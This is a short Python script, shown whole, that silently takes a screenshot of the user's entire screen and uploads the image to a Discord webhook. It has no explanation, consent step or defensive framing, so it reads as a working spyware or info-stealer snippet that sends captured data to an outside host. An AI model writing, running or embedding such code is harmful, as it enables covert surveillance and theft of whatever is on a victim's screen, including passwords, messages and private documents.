from PIL import ImageGrab
import requests
ImageGrab.grab().save("s.png")
requests.post("https://discord.com/api/webhooks/1/x", files={"f": open("s.png", "rb")})
